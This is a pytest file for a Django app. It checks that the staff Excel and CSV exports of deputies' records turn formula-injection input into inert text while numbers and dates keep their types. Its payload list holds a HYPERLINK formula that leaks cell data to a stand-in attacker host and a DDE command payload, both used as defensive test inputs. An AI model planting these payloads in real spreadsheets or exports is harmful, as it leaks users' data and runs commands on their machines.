"""Spreadsheet formula injection (issue 6, item 15): a deputy's position `=HYPERLINK(…)` must come
out of the staff Excel and CSV exports as text, for every formula trigger (= + - @, tab, CR);
numbers and dates stay typed values."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from congress.exports import Column, csv_response, neutralise, xlsx_response
from tests.deputies.factories import DeputyFactory

pytestmark = pytest.mark.django_db

LIST = "/staff/deputies/"
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]


def xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_staff_excel_export_holds_no_live_formula(staff_client, payload):
    DeputyFactory(name="周强", work_unit=payload)
    rows = xlsx_rows(staff_client.get(LIST, {"export": "xlsx"}))
    header = [value for value, _ in rows[0]]
    value, kind = rows[1][header.index("工作单位及职务")]
    assert kind == "s"  # a string cell, never "f" (formula)
    # XML turns a carriage return into a line feed; the apostrophe comes first all the same.
    assert value[0] == "'" and value[2:] == payload[1:]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_staff_csv_export_holds_no_live_formula(staff_client, payload):
    DeputyFactory(name="周强", work_unit=payload)
    header, row = csv_rows(staff_client.get(LIST, {"export": "csv"}))
    cell = row[header.index("工作单位及职务")]
    assert cell == "'" + payload
    assert cell[0] == "'"


def test_ordinary_text_numbers_and_dates_are_left_as_they_are():
    columns = [Column("text", lambda r: r[0]), Column("number", lambda r: r[1]), Column("date", lambda r: r[2])]
    rows = [("区教育委员会 副主任", -5, date(2026, 3, 1)), ("a=b", 3.5, None)]
    sheet = xlsx_rows(xlsx_response("t", columns, rows))
    assert sheet[1][0] == ("区教育委员会 副主任", "s")
    assert sheet[1][1] == (-5, "n")  # a negative number is a number, not a formula
    assert sheet[1][2][0].date() == date(2026, 3, 1)
    assert sheet[2][0] == ("a=b", "s")
    assert csv_rows(csv_response("t", columns, rows))[1] == ["区教育委员会 副主任", "-5", "2026-03-01"]


def test_neutralise_only_touches_leading_triggers():
    assert [neutralise(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert neutralise("张三") == "张三"
    assert neutralise("") == ""
    assert neutralise("1-2") == "1-2"
